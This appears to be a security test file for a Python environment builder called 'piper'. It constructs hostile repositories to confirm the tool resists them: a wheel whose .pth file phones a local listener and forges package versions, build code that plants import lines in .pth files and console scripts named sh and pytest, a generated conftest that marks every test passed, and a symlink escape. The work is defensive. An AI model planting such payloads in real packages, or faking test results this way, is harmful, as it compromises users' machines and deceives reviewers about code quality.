// Hostile repositories against the environment builder, through the real CLI and engine with
// listeners on 127.0.0.1: a wheelhouse wheel whose .pth phones home and forges versions and whose
// metadata names a direct URL, with the user's index and find-links both carrying credentials; build
// code that writes .pth lines Python splits where a \n-reader would not, files outside the venv and
// console scripts named like system commands, then generates a conftest that passes every test,
// then a third checkout with the same declarations whose failing test must fail; a committed
// `.piper` symlink. Each attack reproduced, and each now fails to do what it did.
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { DockerEngine } from '../../runtime/engine/docker-engine.js';
import { runCli } from '../helpers/cli.js';
import { NO_PIP, envRows, envScratch, listener } from '../helpers/env-repos.js';
import { buildWheel, serveSimpleIndex } from '../helpers/wheels.js';
import { defaultLedgerPath } from '../../runtime/ledger/location.js';

const engine = new DockerEngine();
const repos = envScratch('piper-env-hostile-');
afterAll(() => repos.cleanup(engine));

/** A .pth line: Python code at every interpreter start, in the build and in every sandbox. */
function pthCalling(port: number): string {
  const body = [
    'try:',
    `    import urllib.request; urllib.request.urlopen("http://127.0.0.1:${port}/pth", timeout=2)`,
    'except Exception:',
    '    pass',
    'open("/tmp/piper-pth-ran", "w").write("x")',
    'import importlib.metadata as m; m.version = lambda name: "999"',
  ].join('\n');
  return `import sys; exec(${JSON.stringify(body)})\n`;
}

describe('a repository wheel with a .pth and a direct URL, the user index and find-links with credentials', () => {
  it('installs it offline: no request reaches the attacker, no credential is recorded, versions are real', async () => {
    const attacker = await listener();
    const links = await listener();
    const shout = buildWheel(join(repos.scratch), 'shout', '2.1', {
      'shout.py': 'def shout(s):\n    return s.upper()\n',
    });
    const indexSecret = 'S3cret-index-token-A';
    const linksSecret = 'S3cret-links-token-B';
    const index = await serveSimpleIndex([shout], { user: 'ci', password: indexSecret });
    const repo = repos.newRepo('hostile-wheels', {
      'pyproject.toml':
        '[project]\nname = "hostile-app"\nversion = "1.0"\ndependencies = ["greet==1.0", "shout>=2"]\n\n[tool.setuptools]\npy-modules = ["app"]\n',
      'app.py':
        'from greet import greet\nfrom shout import shout\n\ndef hello(n):\n    return shout(greet(n))\n',
      'tests/test_app.py':
        'import importlib.metadata\nfrom app import hello\n\ndef test_hello():\n    assert hello("ada") == "HELLO, ADA"\n',
    });
    mkdirSync(join(repo, '.piper'), { recursive: true });
    writeFileSync(join(repo, '.piper', 'sandbox.toml'), 'find_links = ["wheelhouse"]\n');
    mkdirSync(join(repo, 'wheelhouse'));
    buildWheel(
      join(repo, 'wheelhouse'),
      'greet',
      '1.0',
      {
        'greet.py': 'def greet(n):\n    return f"hello, {n}"\n',
        'greet_hook.pth': pthCalling(attacker.port),
      },
      [`evil @ http://127.0.0.1:${attacker.port}/evil-1.0.tar.gz`],
    );
    try {
      const r = await runCli(['run-test', 'tests/', '--repo', repo, '--json'], {
        env: {
          ...NO_PIP,
          PIP_INDEX_URL: index.url,
          PIP_FIND_LINKS: `http://ci:${linksSecret}@127.0.0.1:${links.port}/links/`,
        },
      });
      expect(r.code, r.stderr.slice(-3000)).toBe(0);
      // Nothing of the repository ran where there was a network: not its .pth, not its URL.
      expect(attacker.requests).toEqual([]);
      // The repository's wheel is never asked of the index (no substitution by a public package).
      expect(index.requests.some((q) => q.path.includes('greet'))).toBe(false);
      expect(index.requests.some((q) => q.path.startsWith('/files/shout') && q.authorized)).toBe(true);
      const [row] = envRows(repo);
      expect(row!.status).toBe('built');
      const steps = JSON.parse(row!.steps) as Array<{ name: string; network: string }>;
      expect(steps.find((s) => s.name === 'pip')!.network).not.toBe('none');
      expect(steps.find((s) => s.name === 'wheelhouse')!.network).toBe('none');
      expect(steps.find((s) => s.name === 'project')!.network).toBe('none');
      // Versions from the metadata files, not from a Python the .pth patched.
      const resolved = JSON.parse(row!.resolved) as Array<{ name: string; version: string }>;
      expect(resolved).toContainEqual(expect.objectContaining({ name: 'greet', version: '1.0' }));
      expect(resolved).toContainEqual(expect.objectContaining({ name: 'hostile-app', version: '1.0' }));
      expect(resolved.some((p) => p.version === '999')).toBe(false);
      // No credential anywhere: the ledger file, the export, the output, the image's config and layers.
      const runs = JSON.parse((await runCli(['ledger', 'runs', '--json', '--repo', repo])).stdout) as Array<{
        id: string;
      }>;
      const exported = await runCli(['ledger', 'export', runs[0]!.id, '--repo', repo]);
      expect(exported.code, exported.stderr).toBe(0);
      const ledgerBytes = readFileSync(defaultLedgerPath(repo));
      const saved = execFileSync('sh', ['-c', `docker save ${row!.image} | strings`], {
        encoding: 'utf8',
        maxBuffer: 1 << 30,
      });
      const inspect = execFileSync('docker', ['image', 'inspect', row!.image], { encoding: 'utf8' });
      for (const secret of [indexSecret, linksSecret]) {
        expect(ledgerBytes.includes(secret), secret).toBe(false);
        expect(`${exported.stdout}${exported.stderr}`).not.toContain(secret);
        expect(`${r.stdout}${r.stderr}`).not.toContain(secret);
        expect(saved).not.toContain(secret);
        expect(inspect).not.toContain(secret);
      }
      expect(JSON.stringify(steps)).toContain('***@127.0.0.1');
    } finally {
      await Promise.all([attacker.close(), links.close(), index.close()]);
    }
  });
});

describe('build code that differs between checkouts with the same declarations', () => {
  const declarations = {
    'pyproject.toml': [
      '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n',
      '[project]\nname = "carrier"\ndynamic = ["version"]\n',
      // Console scripts named like system commands: first on PATH in every sandbox, if written.
      '[project.scripts]\nsh = "carrier:answer"\npytest = "carrier:answer"\ncarrier-cli = "carrier:answer"\n',
      '[tool.setuptools]\npackages = ["carrier"]\n',
      '[tool.setuptools.dynamic]\nversion = {attr = "carrier.__version__"}\n',
    ].join('\n'),
    'tests/test_carrier.py': [
      'import os, shutil',
      'import carrier',
      '',
      'def test_fails():',
      '    assert carrier.answer() == 41',
      '',
      'def test_console_scripts():',
      '    assert os.path.exists("/opt/piper/venv/bin/carrier-cli")',
      '    assert not os.path.exists("/opt/piper/venv/bin/sh")',
      // The venv's pytest is piper's launcher of the runner (venv-launchers.ts), never the project's script.
      '    assert "carrier" not in open("/opt/piper/venv/bin/pytest").read()',
      '    assert "-m pytest" in open("/opt/piper/venv/bin/pytest").read()',
      '    assert shutil.which("sh") != "/opt/piper/venv/bin/sh"',
      '',
    ].join('\n'),
  };
  // Imported by setuptools for the version (it is computed), as root, in the project phase; not
  // when pytest imports it.
  const atBuild = (lines: string[]) =>
    [
      'import os, sys, sysconfig',
      'if "pytest" not in " ".join(sys.argv):',
      ...lines.map((l) => `    ${l}`),
      '__version__ = ".".join(["1", "0"])',
      'def answer():',
      '    return 42',
      '',
    ].join('\n');
  const passEverything = [
    'import pytest',
    '@pytest.hookimpl(hookwrapper=True)',
    'def pytest_runtest_makereport(item, call):',
    '    outcome = yield',
    '    outcome.get_result().outcome = "passed"',
    '',
  ].join('\n');

  /** Another checkout at the same path: the same declarations, this `carrier/__init__.py`. */
  function checkout(repo: string, init: string): void {
    for (const entry of readdirSync(repo))
      if (entry !== '.git' && entry !== '.piper') rmSync(join(repo, entry), { recursive: true });
    for (const [path, text] of Object.entries({ ...declarations, 'carrier/__init__.py': init })) {
      mkdirSync(join(repo, path, '..'), { recursive: true });
      writeFileSync(join(repo, path), text);
    }
  }

  async function runTests(repo: string) {
    const r = await runCli(['run-test', 'tests/', '--repo', repo, '--json'], { env: NO_PIP });
    const result = JSON.parse(r.stdout || '{}') as { counts?: { passed: number; failed: number } };
    return { ...r, counts: result.counts, row: envRows(repo).at(-1)! };
  }

  it("leaves out what the build wrote and never lets one checkout pass another checkout's failing test", async () => {
    // 1. Python's line ends in .pth files (\r, \f, \x1c: each an import line to site.py), a
    // .gitignore in site-packages, a file outside it, console scripts named sh and pytest.
    const hostile = atBuild([
      'site = sysconfig.get_paths()["purelib"]',
      `payload = "import os, sys; os._exit(0) if 'pytest' in ' '.join(sys.argv) else None"`,
      'for i, sep in enumerate(["\\r", "\\f", "\\x1c"]):',
      '    open(os.path.join(site, "zz%d.pth" % i), "w", newline="").write("/work" + sep + payload + "\\n")',
      'open(os.path.join(site, ".gitignore"), "w").write("*\\n")',
      'open("/usr/local/bin/pytest-shim", "w").write("#!/bin/sh\\nexit 0\\n")',
    ]);
    const repo = repos.newRepo('carrier', { ...declarations, 'carrier/__init__.py': hostile });
    const first = await runTests(repo);
    expect(first.code, first.stderr.slice(-3000)).toBe(4);
    expect(first.counts).toMatchObject({ passed: 1, failed: 1 });
    const said = first.row.sources;
    expect(said).toContain('project: left out of the image, written by its build:');
    for (const i of [0, 1, 2])
      expect(said).toContain(`zz${i}.pth (line 2 is an import line: site.py executes it)`);
    expect(said).toContain('site-packages/.gitignore');
    expect(said).toContain('added /usr/local/bin/pytest-shim');
    expect(said).toContain('console script sh (named like a system command)');
    expect(said).toContain('console script pytest (named like a system command)');

    // 2. Its build generates a conftest.py that passes every test: its own checkout's code, carried
    // to its own runs (a generated file), so its failing test passes there.
    checkout(repo, atBuild([`open("/work/conftest.py", "w").write(${JSON.stringify(passEverything)})`]));
    const second = await runTests(repo);
    expect(second.code, second.stderr.slice(-3000)).toBe(0);
    expect(second.counts).toMatchObject({ passed: 2, failed: 0 });
    expect(second.row.sources).toContain(
      'generated in the checkout, put into /work at run start: conftest.py',
    );
    expect(second.row.sources).toContain('dependencies: reused');

    // 3. The same declarations, the project's own code: its own project layer, its failing test fails.
    checkout(repo, '__version__ = "1.0"\n\ndef answer():\n    return 42\n');
    const third = await runTests(repo);
    expect(third.code, third.stderr.slice(-3000)).toBe(4);
    expect(third.counts).toMatchObject({ passed: 1, failed: 1 });
    expect(third.row.key).not.toBe(second.row.key);
    expect(third.row.sources).toContain('dependencies: reused');
    expect(envRows(repo).map((row) => row.status)).toEqual(['built', 'built', 'built']);
    // What a new checkout costs: the project phase on the kept dependency image.
    console.log(
      `a new checkout's environment: ${third.row.seconds.toFixed(1)} s (the first: ${first.row.seconds.toFixed(1)} s)`,
    );
  });
});

describe('a committed .piper symlink', () => {
  it('leads nowhere: a run writes nothing through it, and the run lock is refused with the fix', async () => {
    const repo = repos.newRepo('piper-link', { 'tests/test_x.py': 'def test_x():\n    pass\n' });
    const elsewhere = join(repos.scratch, 'elsewhere');
    mkdirSync(elsewhere);
    symlinkSync(elsewhere, join(repo, '.piper'));
    // The ledger is in the state directory: the run keeps nothing in `.piper/`.
    const r = await runCli(['run-test', 'tests/', '--repo', repo, '--json'], { env: NO_PIP });
    expect(r.code, r.stderr.slice(-3000)).toBe(0);
    expect(readdirSync(elsewhere)).toEqual([]);
    // The run lock (fix, resume, undo) is what piper still keeps there: refused before it is written.
    const runId = (JSON.parse(r.stdout) as { run_id: string }).run_id;
    const undo = await runCli(['undo', runId, '--repo', repo], { env: NO_PIP });
    expect(undo.code).not.toBe(0);
    expect(undo.stderr).toContain('is a symbolic link');
    expect(undo.stderr).toContain('rm ');
    expect(readdirSync(elsewhere)).toEqual([]);
  });
});
